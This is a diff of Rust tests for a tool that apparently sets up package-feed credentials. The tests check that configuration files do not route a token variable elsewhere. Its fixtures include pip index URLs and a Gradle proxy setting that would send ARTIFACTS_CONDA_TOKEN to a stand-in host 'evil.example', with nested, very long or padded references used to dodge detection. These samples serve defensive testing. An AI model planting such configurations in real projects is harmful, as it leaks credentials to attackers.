@@ -92,7 +92,14 @@ fn hatch_sends_condas_variable_nowhere_else() {
     let index = |reference: &str, host: &str| {
         format!("PIP_EXTRA_INDEX_URL = 'https://t:{reference}@{host}/contoso/_packaging/f/pypi/simple/'\n")
     };
-    for reference in ["{env:ARTIFACTS_CONDA_TOKEN}", "{env:ARTIFACTS_CONDA_{env:X:TOKEN}}"] {
+    let long = format!("{{env:{{env:{}:ARTIFACTS_CONDA_}}TOKEN}}", "X".repeat(600));
+    for reference in [
+        "{env:ARTIFACTS_CONDA_TOKEN}",
+        "{env:ARTIFACTS_CONDA_{env:X:TOKEN}}",
+        "{env:ARTIFACTS_CONDA_{env_name}}",
+        "{env:ARTIFACTS_{matrix:x}_TOKEN}",
+        &long,
+    ] {
         let set = index(reference, "evil.example");
         for (path, text) in [
             ("hatch.toml", format!("[envs.x.env-vars]\n{set}")),
@@ -106,8 +113,37 @@ fn hatch_sends_condas_variable_nowhere_else() {
             );
         }
     }
-    let ours = format!("[envs.x.env-vars]\n{}", index("{env:ADO_ENTRA_TOKEN}", "pkgs.dev.azure.com"));
-    assert!(Case { files: &[(".condarc", ALIAS), ("hatch.toml", &ours)], ..Case::default() }.result().is_ok());
+    let sent = format!("[envs.x.env-vars]\n{}", index("{env:ARTIFACTS_CONDA_TOKEN}", "evil.example"));
+    let many = format!("{sent}{}", "#$A\n".repeat(100_001));
+    let error = Case { files: &[(".condarc", ALIAS), ("hatch.toml", &many)], ..Case::default() }.result().unwrap_err();
+    assert!(error.to_string().starts_with("hatch.toml may have"), "{error}");
+    for reference in ["{env:ADO_ENTRA_TOKEN}", "{env:A_{matrix:x}}"] {
+        let ours = format!("[envs.x.env-vars]\n{}", index(reference, "pkgs.dev.azure.com"));
+        assert!(Case { files: &[(".condarc", ALIAS), ("hatch.toml", &ours)], ..Case::default() }.result().is_ok());
+    }
+}
+
+#[test]
+fn a_file_that_nobody_has_searched_stops_the_step_where_every_later_step_has_the_token() {
+    let host = host(&[]);
+    let reach = Reach { permitted: vec![permitted("contoso", Standing::Owned)], ..Reach::default() };
+    let choice = Choice { tools: TOOLS.to_vec(), named: None };
+    let wanted = Wanted { choice: &choice, reach: &reach, feeds: &[], token_variable: "ADO_ENTRA_TOKEN" };
+    let conda = (
+        ".condarc",
+        "channel_alias: https://t:${ARTIFACTS_CONDA_TOKEN}@pkgs.dev.azure.com/contoso/_packaging/f/Conda/repo/",
+    );
+    let npm = (".npmrc", "registry=https://pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/");
+    for (file, hides, stops) in
+        [(conda, Hidden::Everything, true), (conda, Hidden::Names, false), (npm, Hidden::Everything, false)]
+    {
+        let mut sources = sources(&[file], &host);
+        let pip = sources.iter_mut().find(|found| found.tool.id().name == "pip").unwrap();
+        let (file, reason) = ("hatch.toml".to_owned(), "it is large".to_owned());
+        pip.unread.push(Unparsable { file, reason, hides, origin: Origin::Workspace });
+        let planned = plan(&wanted, &sources, &host, &Disk::default(), &names());
+        assert_eq!(matches!(planned, Err(PlanError::Unsearched { .. })), stops, "{hides:?}");
+    }
 }
 
 #[test]
@@ -244,8 +280,12 @@ fn a_client_that_asks_is_not_set_up_where_the_repository_may_lead_it_elsewhere()
     let peril = "systemProp.https.proxyHost=evil.example";
     let [root, beside, users] =
         ["gradle.properties", "vendor/gradle.properties", "/home/build/.gradle/gradle.properties"];
-    let hidden =
-        |origin| Unparsable { file: root.to_owned(), reason: "it is large".to_owned(), hides: Hidden::Names, origin };
+    let hidden = |origin| Unparsable {
+        file: root.to_owned(),
+        reason: "it is large".to_owned(),
+        hides: Hidden::Everything,
+        origin,
+    };
     let led = "gradle.properties line 1 sends Gradle's traffic through a proxy (systemProp.https.proxyHost), so gradle gets no token";
     for (named, build, properties, unread, is_set_up, said) in [
         (None, feed, root, None, false, led),
